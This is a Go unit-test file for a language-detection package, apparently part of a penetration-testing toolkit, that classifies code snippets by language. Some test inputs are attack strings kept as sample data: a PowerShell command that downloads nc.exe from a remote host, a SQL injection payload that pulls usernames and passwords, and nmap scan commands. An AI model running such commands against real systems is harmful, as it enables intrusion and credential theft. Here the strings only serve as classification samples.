package langdetect_test

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/yaklabco/penenv/pkg/langdetect"
)

func TestDetect(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name     string
		content  string
		expected string
	}{
		{"shebang bash", "#!/bin/bash\necho hello", "bash"},
		{"shebang sh", "#!/bin/sh\necho hello", "bash"},
		{"shebang python", "#!/usr/bin/env python3\nprint('hello')", "python"},
		{"nmap invocation", "nmap -sC -sV -oA scan 10.10.10.5", "bash"},
		{"pasted prompt", "$ id\nuid=0(root) gid=0(root)", "bash"},
		{"http request", "GET /admin HTTP/1.1\nHost: target\n", "http"},
		{"http response", "HTTP/1.1 200 OK\nServer: nginx", "http"},
		{"powershell prompt", "PS C:\\> whoami /priv", "powershell"},
		{"powershell cmdlet", "Invoke-WebRequest -Uri http://x/nc.exe -OutFile nc.exe", "powershell"},
		{"go code", "package main\n\nfunc main() {}", "go"},
		{"python code", "def foo():\n    pass\n\nif __name__ == '__main__':\n    foo()", "python"},
		{"python import", "import socket\ns = socket.socket()", "python"},
		{"json object", `{"user": "admin", "id": 1}`, "json"},
		{"sql injection payload", "UNION SELECT username, password FROM users--", "sql"},
		{"sql query", "SELECT * FROM users WHERE id = 1;", "sql"},
		{"html page", "<!DOCTYPE html>\n<html><body></body></html>", "html"},
		{"yaml content", "host: 10.0.0.1\nport: 22\nservices:\n  - ssh", "yaml"},
		{"plain text fallback", "just some text without any code patterns", "text"},
		{"empty content", "", "text"},
		{"whitespace only", "   \n\t", "text"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()

			assert.Equal(t, tt.expected, langdetect.Detect([]byte(tt.content)))
		})
	}
}

func TestDetect_ShebangTakesPrecedence(t *testing.T) {
	t.Parallel()

	content := []byte("#!/bin/bash\ndef foo():\n    pass")
	assert.Equal(t, "bash", langdetect.Detect(content), "shebang should take precedence")
}

func TestFromInfo(t *testing.T) {
	t.Parallel()

	tests := []struct {
		info string
		want string
	}{
		{"sh", "bash"},
		{"bash", "bash"},
		{"golang", "go"},
		{"Python", "python"},
		{"  ", "text"},
		{"nmap-output", "nmap-output"},
	}

	for _, tt := range tests {
		t.Run(tt.info, func(t *testing.T) {
			t.Parallel()

			assert.Equal(t, tt.want, langdetect.FromInfo(tt.info))
		})
	}
}

func TestForBlock(t *testing.T) {
	t.Parallel()

	body := []byte("nmap -p- 10.0.0.1")

	assert.Equal(t, "bash", langdetect.ForBlock("", body), "empty info falls back to content")
	assert.Equal(t, "go", langdetect.ForBlock("golang title=x", body), "first info word wins")
	assert.Equal(t, "text", langdetect.ForBlock("", nil))
}
